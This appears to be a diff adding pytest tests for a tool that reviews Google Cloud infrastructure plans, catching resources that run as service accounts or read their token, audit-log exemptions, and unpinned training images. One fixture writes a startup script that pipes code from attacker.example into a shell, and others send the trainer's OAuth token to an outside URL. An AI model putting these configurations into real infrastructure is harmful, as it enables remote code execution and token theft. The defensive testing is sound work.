@@ -1,0 +1,288 @@
+"""The review fails closed over resource types too (review.references): anything that runs as, speaks for or reads
+the token's holders is a path or an UNKNOWN, in both plan forms; every row of the table of inert references has a
+case; benign plans (another service account running services, the trainer with logging roles) pass. Also the audit
+trail of token reads (HFG012) and what jobs train from (mirror writers, the training image, HFG013)."""
+from __future__ import annotations
+
+import copy
+import json
+
+import pytest
+
+from review.plan import load
+from review.references import INERT, scan
+from review.report import review
+from stacks.config import parse_settings
+from stacks.errors import ConfigError
+from tests.test_review_attacks import EVE, _plan, _ref_sa, _sa, _secret, add
+
+TRAINER = "hfg-dev-trainer@acme-hfgate-dev.iam.gserviceaccount.com"
+SUBMITTER = "hfg-dev-submitter@acme-hfgate-dev.iam.gserviceaccount.com"
+
+
+def _review(data, tmp_path, form="synth"):
+    plan, _ = _plan(data, tmp_path / form, form, None, None)
+    return review(plan), plan
+
+
+def vm(d, email=None):
+    return add(d, "google_compute_instance", "vm", {
+        "name": "vm", "zone": "us-central1-a", "machine_type": "e2-small",
+        "metadata_startup_script": "curl -s https://attacker.example/run | sh",
+        "service_account": [{"email": email or _ref_sa(d, "trainer", "email"), "scopes": ["cloud-platform"]}]})
+
+
+@pytest.mark.parametrize("form", ["synth", "plan"])
+@pytest.mark.parametrize("how", ["reference", "literal"])
+def test_a_vm_running_as_the_trainer_is_a_path_naming_what_controls_it(plans, tmp_path, form, how):
+    data = vm(copy.deepcopy(plans["dev"]), None if how == "reference" else TRAINER)
+    rep, _ = _review(data, tmp_path, form)
+    assert rep["ok"] is False
+    if form == "synth":
+        assert "resource:google_compute_instance.vm" in rep["unexpected_readers"]
+        row = next(r for r in rep["token_readers"] if r["principal"] == "resource:google_compute_instance.vm")
+        assert row["kind"] == "runs-as" and "trainer" in row["how"] and "attacker.example" in row["how"]
+    else:   # the plan form shows the reference at the block level: still refused (a path or an UNKNOWN)
+        assert "resource:google_compute_instance.vm" in rep["unexpected_readers"] or \
+            "google_compute_instance.vm" in rep["unresolved"]
+
+
+@pytest.mark.parametrize("form", ["synth", "plan"])
+@pytest.mark.parametrize("attr", ["email", "unique_id", "member", "name"])
+def test_a_made_up_resource_type_naming_the_trainer_fails_as_unknown(plans, tmp_path, form, attr):
+    d = copy.deepcopy(plans["dev"])
+    add(d, "google_future_compute_thing", "x", {"name": "x", "runner": _ref_sa(d, "trainer", attr)})
+    rep, _ = _review(d, tmp_path, form)
+    assert rep["ok"] is False and "google_future_compute_thing.x" in rep["unresolved"]
+    entry = next(u for u in rep["unknowns"] if u["address"] == "google_future_compute_thing.x")
+    assert "trainer" in entry["why"] and "review.references" in entry["why"]
+
+
+def test_the_submitter_literal_in_an_unknown_nested_block_fails(plans, tmp_path):
+    d = add(copy.deepcopy(plans["dev"]), "google_some_new_service_runner", "r",
+            {"name": "r", "settings": [{"identity": {"principal": f"serviceAccount:{SUBMITTER}"}}]})
+    rep, _ = _review(d, tmp_path)
+    assert "google_some_new_service_runner.r" in rep["unresolved"]
+
+
+KNOWN = {
+    "cloud scheduler sends the trainer's OAuth token to a URL": (
+        lambda d: add(d, "google_cloud_scheduler_job", "j", {"name": "j", "http_target": [{
+            "uri": "https://collector.example/hook",
+            "oauth_token": [{"service_account_email": _ref_sa(d, "trainer", "email")}]}]}),
+        "resource:google_cloud_scheduler_job.j", "collector.example"),
+    "a build trigger runs as the submitter from a repository": (
+        lambda d: add(d, "google_cloudbuild_trigger", "t", {"name": "t", "filename": "cloudbuild.yaml",
+                                                             "service_account": _ref_sa(d, "submitter", "id"),
+                                                             "github": [{"owner": "someone", "name": "repo"}]}),
+        "resource:google_cloudbuild_trigger.t", "someone"),
+    "a Cloud Run job as the trainer": (
+        lambda d: add(d, "google_cloud_run_v2_job", "j", {"name": "j", "location": "us-central1", "template": {
+            "template": {"service_account": TRAINER, "containers": [{"image": "docker.io/anyone/anything:latest"}]}}}),
+        "resource:google_cloud_run_v2_job.j", "docker.io/anyone"),
+    "an access token of the trainer minted into state": (
+        lambda d: add(d, "google_service_account_access_token", "t", {
+            "target_service_account": _ref_sa(d, "trainer", "email"), "scopes": ["cloud-platform"]}, "data"),
+        "resource:data.google_service_account_access_token.t", "state"),
+    "a data source reading the token, and the output built from it": (
+        lambda d: add(add(d, "google_secret_manager_secret_version", "v", {
+            "secret": f"${{google_secret_manager_secret.{_secret(d)}.id}}"}, "data"), "output", "leak",
+            {"value": "${data.google_secret_manager_secret_version.v.secret_data}", "sensitive": True}, "output")
+        and d["output"].update(leak=d["output"].pop("output")["leak"]) or d,
+        "resource:output.leak", "state"),
+    "a Cloud Run service mounting the token secret by its short id": (
+        lambda d: add(d, "google_cloud_run_v2_service", "s", {"name": "s", "location": "us-central1", "template": {
+            "containers": [{"image": "x", "env": [{"name": "T", "value_source": {"secret_key_ref": {
+                "secret": "hfg-dev-hf-token", "version": "latest"}}}]}]}}),
+        "resource:google_cloud_run_v2_service.s", "token secret"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(KNOWN))
+def test_known_types_that_run_as_or_read_the_token_are_paths(plans, tmp_path, case):
+    mutate, principal, shown = KNOWN[case]
+    rep, _ = _review(mutate(copy.deepcopy(plans["dev"])), tmp_path)
+    assert rep["ok"] is False and principal in rep["unexpected_readers"], (rep["unexpected_readers"],
+                                                                          rep["unresolved"])
+    rows = [r for r in rep["token_readers"] if r["principal"] == principal]
+    assert rows and any(shown in r["how"] or shown in str(r["via"]) for r in rows), rows
+
+
+def test_the_data_source_reading_the_token_is_named_too(plans, tmp_path):
+    mutate = KNOWN["a data source reading the token, and the output built from it"][0]
+    rep, _ = _review(mutate(copy.deepcopy(plans["dev"])), tmp_path)
+    assert "resource:data.google_secret_manager_secret_version.v" in rep["unexpected_readers"]
+
+
+def test_a_benign_plan_passes(plans, tmp_path):
+    """Another service account runs a service (with its own Workload Identity binding), the trainer gets logging
+    and monitoring roles: nothing reaches the token, the review passes."""
+    d = copy.deepcopy(plans["dev"])
+    add(d, "google_service_account", "web", {"account_id": "web-frontend", "project": "acme-hfgate-dev"})
+    add(d, "google_cloud_run_v2_service", "web", {"name": "web", "location": "us-central1", "template": {
+        "service_account": "${google_service_account.web.email}", "containers": [{"image": "x"}]}})
+    add(d, "google_service_account_iam_member", "web-wif", {
+        "service_account_id": "${google_service_account.web.name}", "role": "roles/iam.workloadIdentityUser",
+        "member": "principalSet://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/gh/"
+                  "attribute.repository/acme/web"})
+    for role in ("roles/monitoring.metricWriter", "roles/logging.viewer"):
+        add(d, "google_project_iam_member", role.split("/")[1].replace(".", "-"), {
+            "project": "acme-hfgate-dev", "role": role, "member": _ref_sa(d, "trainer", "member")})
+    for form in ("synth", "plan"):
+        rep, _ = _review(copy.deepcopy(d), tmp_path, form)
+        assert rep["ok"], (form, rep["unexpected_readers"], rep["unresolved"],
+                           [p["id"] for p in rep["policies"] if not p["passed"]])
+
+
+# One case per row of INERT: the reference the row explains is present, and the scan files it as inert.
+def _row_cases(d):
+    tr = _ref_sa(d, "trainer", "member")
+    sec = f"${{google_secret_manager_secret.{_secret(d)}.id}}"
+    return {
+        0: lambda: add(d, "google_storage_bucket_iam_member", "i0", {"bucket": "other", "role":
+                                                                    "roles/storage.objectViewer", "member": tr}),
+        1: lambda: add(d, "google_pubsub_topic_iam_binding", "i1", {"topic": "t", "role": "roles/pubsub.viewer",
+                                                                   "members": [tr]}),
+        2: lambda: add(d, "google_pubsub_topic_iam_policy", "i2", {"topic": "t", "policy_data": json.dumps(
+            {"bindings": [{"role": "roles/pubsub.viewer", "members": [f"serviceAccount:{TRAINER}"]}]})}),
+        3: lambda: add(d, "google_service_account_iam_member", "i3", {
+            "service_account_id": _ref_sa(d, "trainer", "name"), "role": "roles/iam.serviceAccountViewer",
+            "member": EVE}),
+        4: lambda: add(d, "google_secret_manager_secret_iam_member", "i4", {
+            "secret_id": sec, "role": "roles/secretmanager.viewer", "member": EVE}),
+        5: lambda: add(d, "google_folder_iam_audit_config", "i5", {"folder": "folders/1", "service": "storage"
+                                                                  ".googleapis.com", "audit_log_config": [{
+                                                                      "log_type": "DATA_READ",
+                                                                      "exempted_members": [tr]}]}),
+        6: lambda: add(d, "google_iam_policy", "i6", {"binding": [{"role": "roles/pubsub.viewer",
+                                                                   "members": [tr]}]}, "data"),
+        7: lambda: add(d, "google_iam_policy", "i7", {"audit_config": [{"service": "storage.googleapis.com",
+                                                                        "audit_log_configs": [{
+                                                                            "log_type": "DATA_READ",
+                                                                            "exempted_members": [tr]}]}]}, "data"),
+        8: lambda: add(d, "google_service_account", "i8", {"account_id": TRAINER}, "data"),
+        9: lambda: add(d, "google_secret_manager_secret", "i9", {"secret_id": "hfg-dev-hf-token"}, "data"),
+        10: lambda: add(d, "google_secret_manager_secret_version", "i10", {"secret": sec, "secret_data_wo": "x",
+                                                                         "secret_data_wo_version": "1"}),
+        11: lambda: d["output"].update(i11={"value": _ref_sa(d, "trainer", "email")}),
+        12: lambda: d.setdefault("locals", {}).update(i12=TRAINER),
+        13: lambda: add(d, "google_pubsub_topic", "i13", {"name": "i13",
+                                                          "labels": {"owner": _ref_sa(d, "trainer", "email")}}),
+        14: lambda: add(d, "google_secret_manager_secret", "i14", {"secret_id": "other", "replication": [
+            {"auto": [{}]}], "annotations": {"about": _ref_sa(d, "trainer", "email")}}),
+        15: lambda: add(d, "google_pubsub_topic", "i15", {"name": "i15", "description": f"read by {TRAINER}"}),
+        16: lambda: add(d, "google_monitoring_dashboard_x", "i16", {"display_name": f"trainer {TRAINER}"}),
+        17: lambda: add(d, "google_pubsub_topic", "i17", {"name": "i17", "depends_on": [
+            f"google_service_account.{_sa(d, 'trainer')}"]}),
+    }
+
+
+@pytest.mark.parametrize("row", range(len(INERT)))
+def test_each_inert_row_explains_a_reference_that_confers_nothing(plans, tmp_path, row):
+    d = copy.deepcopy(plans["dev"])
+    cases = _row_cases(d)
+    assert set(cases) == set(range(len(INERT))), "every row of review.references.INERT needs a case here"
+    cases[row]()
+    path = tmp_path / "s" / "cdk.tf.json"
+    path.parent.mkdir(parents=True)
+    path.write_text(json.dumps(d))
+    result = scan(load(path))
+    why = INERT[row][3]
+    assert any(x["why"] == why for x in result["inert"]), (row, result)
+    assert result["paths"] == [] and result["unknowns"] == [], result
+
+
+def test_an_unknown_top_level_block_is_unknown(plans, tmp_path):
+    d = copy.deepcopy(plans["dev"])
+    d["future_block"] = {"x": {"runs_as": TRAINER}}
+    rep, _ = _review(d, tmp_path)
+    assert "future_block" in rep["unresolved"]
+
+
+# Audit trail --------------------------------------------------------------------------------------------------------
+def _audit(d, name, service, log_type="DATA_READ", exempted=None, rtype="google_project_iam_audit_config"):
+    cfg = {"log_type": log_type}
+    if exempted:
+        cfg["exempted_members"] = exempted
+    return add(d, rtype, name, {"project": "acme-hfgate-dev", "folder": "folders/1", "service": service,
+                                "audit_log_config": [cfg]})
+
+
+AUDIT = {
+    "a principal exempted from Secret Manager's data-access logs": (
+        lambda d: _audit(d, "x", "allServices", exempted=[EVE]), EVE),
+    "the trainer exempted at folder level": (
+        lambda d: _audit(d, "x", "secretmanager.googleapis.com", exempted=[f"serviceAccount:{TRAINER}"],
+                         rtype="google_folder_iam_audit_config"), TRAINER),
+    "Secret Manager's config replaced by one without DATA_READ": (
+        lambda d: d["resource"]["google_project_iam_audit_config"].clear() or
+        _audit(d, "x", "secretmanager.googleapis.com", log_type="ADMIN_READ"), "without DATA_READ"),
+    "no audit config at all": (
+        lambda d: d["resource"].pop("google_project_iam_audit_config") and d, "off by default"),
+    "a second authoritative config for Secret Manager": (
+        lambda d: _audit(d, "x", "secretmanager.googleapis.com"), "last applied wins"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(AUDIT))
+def test_token_reads_that_would_not_be_logged_fail_hfg012(plans, tmp_path, case):
+    mutate, shown = AUDIT[case]
+    rep, _ = _review(mutate(copy.deepcopy(plans["dev"])), tmp_path)
+    hfg012 = next(p for p in rep["policies"] if p["id"] == "HFG012")
+    assert rep["ok"] is False and not hfg012["passed"]
+    assert any(shown in v["detail"] for v in hfg012["violations"]), hfg012["violations"]
+
+
+def test_the_shipped_stacks_log_every_token_read(plans):
+    for env in ("dev", "prod", "local"):
+        (cfg,) = plans[env]["resource"]["google_project_iam_audit_config"].values()
+        assert cfg["service"] == "secretmanager.googleapis.com"
+        assert {"log_type": "DATA_READ"} in cfg["audit_log_config"]
+        assert not any(c.get("exempted_members") for c in cfg["audit_log_config"])
+
+
+# What jobs train from ---------------------------------------------------------------------------------------------
+def test_a_writer_of_the_mirror_bucket_other_than_the_submitter_is_a_path(plans, tmp_path):
+    d = copy.deepcopy(plans["dev"])
+    mirror = next(k for k in d["resource"]["google_storage_bucket"] if k.startswith("mirror"))
+    add(d, "google_storage_bucket_iam_member", "w", {"bucket": f"${{google_storage_bucket.{mirror}.name}}",
+                                                     "role": "roles/storage.objectCreator", "member": EVE})
+    rep, _ = _review(d, tmp_path)
+    assert EVE in rep["unexpected_readers"]
+    assert any("mirror bucket" in r["how"] for r in rep["token_readers"] if r["principal"] == EVE)
+
+
+def test_a_writer_of_the_artifacts_bucket_other_than_the_trainer_is_a_path(plans, tmp_path):
+    d = copy.deepcopy(plans["dev"])
+    artifacts = next(k for k in d["resource"]["google_storage_bucket"] if k.startswith("artifacts"))
+    add(d, "google_storage_bucket_iam_member", "w", {"bucket": f"${{google_storage_bucket.{artifacts}.name}}",
+                                                     "role": "roles/storage.objectUser", "member": EVE})
+    rep, _ = _review(d, tmp_path)
+    assert EVE in rep["unexpected_readers"]
+
+
+@pytest.mark.parametrize("image,ok", [
+    ("docker.io/huggingface/trl:latest", False),
+    ("us-docker.pkg.dev/someone-else/repo/trl:1.0", False),
+    ("docker.io/huggingface/trl@sha256:" + "a" * 64, True),
+    ("us-central1-docker.pkg.dev/acme-hfgate-dev/training/trl:1.16", True),
+    ("us-docker.pkg.dev/deeplearning-platform-release/gcr.io/huggingface-pytorch-training:x", True),
+])
+def test_the_training_image_must_be_trusted_or_pinned(plans, tmp_path, image, ok):
+    d = copy.deepcopy(plans["dev"])
+    d["output"]["training_image"]["value"] = image
+    rep, _ = _review(d, tmp_path)
+    hfg013 = next(p for p in rep["policies"] if p["id"] == "HFG013")
+    assert hfg013["passed"] is ok, hfg013
+
+
+def test_config_refuses_an_untrusted_mutable_image_at_synth():
+    raw = {"project_id": "acme-hfgate-dev", "region": "us-central1", "prefix": "hfg-dev",
+           "training_image": "docker.io/huggingface/trl:latest"}
+    with pytest.raises(ConfigError) as err:
+        parse_settings("dev", raw)
+    assert "training_image" in str(err.value) and "sha256" in str(err.value)
+    assert parse_settings("dev", {**raw, "training_image": raw["training_image"].split(":")[0] + "@sha256:" + "0" * 64})
+    assert parse_settings("dev", {**raw, "trusted_image_registries": ["docker.io/huggingface/"]})
+    with pytest.raises(ConfigError):
+        parse_settings("dev", {**raw, "trusted_image_registries": ["not a registry"]})
